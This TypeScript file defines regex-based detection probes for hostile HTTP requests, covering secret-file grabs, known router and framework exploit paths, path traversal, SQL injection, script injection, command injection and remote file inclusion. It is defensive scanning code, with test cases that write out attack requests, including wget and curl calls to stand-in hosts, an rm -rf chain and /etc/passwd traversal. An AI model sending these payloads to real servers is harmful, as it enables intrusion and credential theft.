/**
 * A request that tells what its sender is after, whatever server it came to. Written down by most servers as
 * `GET /path?query HTTP/1.1`; each regex is a single way through any text, so that no request can be made slow to look at.
 */
export interface Probe {
  readonly name: string
  readonly weight: number
  readonly distinct?: string
  /** Source of the regex that the request must begin with. Upper and lower case are the same. */
  readonly request: string
  /** For what counts only with some answers: source of the rest of the request, and of the status. */
  readonly answered?: { readonly rest: string; readonly status: string }
  /** Requests with the status that they got. */
  readonly match: readonly Answered[]
  readonly miss: readonly Answered[]
}

export type Answered = readonly [request: string, status: number]

/** Text between quotation marks; those that belong to it have a backslash. */
export const quoted = String.raw`(?:[^"\\]|\\.)*`
export const method = '[a-z]+ '
const folders = String.raw`[^ "?]*\/`
const query = String.raw`[^ "?]*\?[^ "]*`
const space = String.raw`(?:\+|%20|\/\*\*\/| )+`

export const anyOf = (...sources: readonly string[]) => `(?:${sources.join('|')})`

/** What nobody asks for in good faith, whatever the answer. */
export const probes: readonly Probe[] = [
  {
    name: 'secret-file',
    weight: 50,
    request: `${method}${folders}${anyOf(
      String.raw`\.env(?:\.[a-z\d._-]+)?`,
      String.raw`\.git\/(?:config|index|credentials|logs\/HEAD)`,
      String.raw`\.git-credentials`,
      String.raw`\.(?:aws\/(?:credentials|config)|ssh\/[a-z\d_.-]+|docker\/config\.json|kube\/config)`,
      String.raw`\.(?:htpasswd|netrc|pgpass|my\.cnf|bash_history|mysql_history|npmrc|pypirc|s3cfg|boto)`,
      'id_(?:rsa|dsa|ecdsa|ed25519)',
      String.raw`wp-config\.php(?:\.[a-z\d]+|~|_[a-z]+)`,
    )}[ ?]`,
    match: [
      ['GET /.env HTTP/1.1', 404],
      ['GET /api/.env.production HTTP/1.1', 200],
      ['GET /.git/config HTTP/1.1', 404],
      ['GET /.aws/credentials?x=1 HTTP/1.1', 403],
      ['GET /wp-config.php.bak HTTP/1.1', 404],
    ],
    miss: [
      ['GET /environment HTTP/1.1', 200],
      ['GET /project.git/config HTTP/1.1', 200],
      ['GET /help?see=/.env HTTP/1.1', 200],
      ['GET /wp-config.php HTTP/1.1', 200],
    ],
  },
  {
    // Holes of PHPUnit, routers and cameras, Laravel, Apache, Fortinet, Pulse, Cisco and WebLogic.
    name: 'exploit',
    weight: 50,
    request: `${method}${folders}${anyOf(
      String.raw`eval-stdin\.php`,
      String.raw`(?:boaform|goform|gponform|dana-na|\+cscoe\+|wls-wsat|_async)\/`,
      'hnap1[ /]',
      String.raw`shell\?cd\+`,
      String.raw`setup\.cgi\?next_file=`,
      String.raw`cgi-bin\/(?:luci\/;stok=|\.|%2e|%%32)`,
      String.raw`_ignition\/execute-solution`,
      String.raw`remote\/(?:fgt_lang|login(?:check)?)[? ]`,
    )}`,
    match: [
      ['POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 404],
      ['POST /boaform/admin/formLogin HTTP/1.1', 405],
      ['GET /HNAP1/ HTTP/1.1', 404],
      ['GET /shell?cd+/tmp;rm+-rf+*;wget+198.51.100.1/x HTTP/1.1', 404],
      ['POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1', 400],
      ['GET /remote/fgt_lang?lang=/../../../ HTTP/1.1', 404],
    ],
    miss: [
      ['GET /cgi-bin/search?q=x HTTP/1.1', 200],
      ['GET /docs/shell?topic=cd HTTP/1.1', 200],
    ],
  },
  {
    // What frameworks were made to run from a query: ThinkPHP, PHP's own settings, Struts, Spring.
    name: 'code-in-query',
    weight: 50,
    request: `${method}${query}${anyOf(
      'invokefunction&',
      'allow_url_include',
      'auto_prepend_file',
      String.raw`php(?::|%3a)(?:\/|%2f){2}(?:input|filter)`,
      '_memberaccess',
      String.raw`class\.module\.classloader`,
    )}`,
    match: [
      [String.raw`GET /index.php?s=/index/\x5Cthink\x5Capp/invokefunction&function=call_user_func_array HTTP/1.1`, 200],
      ['POST /?-d+allow_url_include%3D1+-d+auto_prepend_file%3Dphp://input HTTP/1.1', 200],
    ],
    miss: [
      ['GET /php:/input HTTP/1.1', 404],
      ['GET /manual?topic=php HTTP/1.1', 200],
    ],
  },
  {
    // One step up may be a badly joined link; two are not, and encoded ones neither.
    name: 'path-traversal',
    weight: 50,
    request: `${method}[^ "]*${anyOf(
      String.raw`(?:(?:\.|%2e|%252e|%c0%ae|%%32%65){2}(?:\/|%2f|%5c|%252f|%255c|\\x5c|\\\\)){2}`,
      String.raw`(?:%2e|%252e|%c0%ae|%%32%65){2}(?:\/|%2f|%5c|%252f|%255c|\\x5c|\\\\)`,
      String.raw`(?:\/|%2f)(?:etc(?:\/|%2f)(?:passwd|shadow)|proc(?:\/|%2f)self(?:\/|%2f)environ)`,
      String.raw`(?:\/|%2f|\\x5c|\\\\|%5c)(?:win|boot)\.ini`,
    )}`,
    match: [
      ['GET /../../../../etc/passwd HTTP/1.1', 400],
      ['GET /download?file=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1', 200],
      ['GET /static/%2e%2e/%2e%2e/secret HTTP/1.1', 404],
      ['GET /a?b=/etc/passwd HTTP/1.1', 200],
    ],
    miss: [
      ['GET /blog/../style.css HTTP/1.1', 404],
      ['GET /and...so/on... HTTP/1.1', 404],
    ],
  },
  {
    name: 'sql-injection',
    weight: 30,
    request: `${method}${query}${anyOf(
      `union${space}(?:all${space})?select(?:${space}|\\()`,
      `(?:'|%27)(?:${space})?(?:or|and)(?:${space}|%27|')[^ "&=]{0,20}(?:=|%3d|like)`,
      String.raw`information_schema(?:\.|%2e)`,
      `waitfor${space}delay`,
      String.raw`(?:sleep|benchmark|extractvalue|updatexml|load_file)(?:\(|%28)`,
      String.raw`(?:concat|char)(?:\(|%28)0x`,
      'xp_cmdshell',
      `into${space}(?:out|dump)file`,
    )}`,
    match: [
      ['GET /item?id=1+UNION+ALL+SELECT+1,2,3 HTTP/1.1', 200],
      ["GET /item?id=1'%20or%20'1'='1 HTTP/1.1", 200],
      ['GET /item?id=1%27+AND+SLEEP(5)--+ HTTP/1.1', 200],
      ['GET /item?id=(select+1+from+information_schema.tables) HTTP/1.1', 200],
    ],
    miss: [
      ['GET /search?q=trade+union+selected+works HTTP/1.1', 200],
      ['GET /search?q=rock%27n%27roll+or+jazz HTTP/1.1', 200],
      ['GET /union+select HTTP/1.1', 404],
    ],
  },
  {
    // Whoever follows a prepared link is its victim, so one or two are no reason to ban.
    name: 'script-injection',
    weight: 25,
    request: `${method}${query}${anyOf(
      String.raw`(?:<|%3c)(?:\/|%2f)?(?:script|iframe|svg|object)`,
      '(?:javascript|vbscript)(?::|%3a)',
      'on(?:error|load|mouseover|focus)(?:=|%3d)',
      String.raw`document(?:\.|%2e)(?:cookie|domain)`,
    )}`,
    match: [
      ['GET /search?q=<script>alert(1)</script> HTTP/1.1', 200],
      ['GET /search?q=%22%3E%3Csvg/onload%3Dalert(1)%3E HTTP/1.1', 200],
      ['GET /search?q=x%20onerror=alert(document.cookie) HTTP/1.1', 200],
    ],
    miss: [
      ['GET /search?q=javascript+onload HTTP/1.1', 200],
      ['GET /<script> HTTP/1.1', 404],
    ],
  },
  {
    name: 'command-injection',
    weight: 50,
    request: `${method}[^ "]*${anyOf(
      String.raw`(?:;|%3b|\||%7c|${'`'}|%60|\$\(|%24%28|&&|%26%26|%0a)(?:${space})?(?:wget|curl|tftp|chmod|busybox|nslookup|ping|nc|bash|sh|id|uname)(?:${space}|%09|\$)`,
      `cd${space}(?:%2f|\\/)(?:tmp|var)`,
      String.raw`(?:\/|%2f)bin(?:\/|%2f)(?:ba|da)?sh`,
    )}`,
    match: [
      ['GET /cgi-bin/status?host=1;wget+http://198.51.100.1/x HTTP/1.1', 404],
      ['GET /ping?ip=127.0.0.1%3Bcurl%20198.51.100.1 HTTP/1.1', 200],
      ['GET /x?y=cd+/tmp HTTP/1.1', 404],
    ],
    miss: [
      ['GET /docs?topic=wget+and+curl HTTP/1.1', 200],
      ['GET /a;id=4 HTTP/1.1', 200],
    ],
  },
  {
    // A page of another site for a script to include: the question mark at the end swallows what the script appends.
    name: 'remote-file',
    weight: 50,
    request: String.raw`(?:get|post|head) [^ "?]*\.php\d?\?[^ "]*=(?:https?|ftp)(?::|%3a)(?:\/|%2f){2}[^ "]*(?:\?|%3f)+ `,
    match: [
      ['GET /index.php?page=http://198.51.100.1/id.txt? HTTP/1.1', 200],
      ['GET /a/b.php?x=1&dir=https%3A%2F%2Fevil.example%2Fshell.txt%3F%3F HTTP/1.1', 404],
    ],
    miss: [
      ['GET /login.php?next=https://www.example.org/ HTTP/1.1', 302],
      ['GET /login?next=https://www.example.org/? HTTP/1.1', 302],
    ],
  },
]
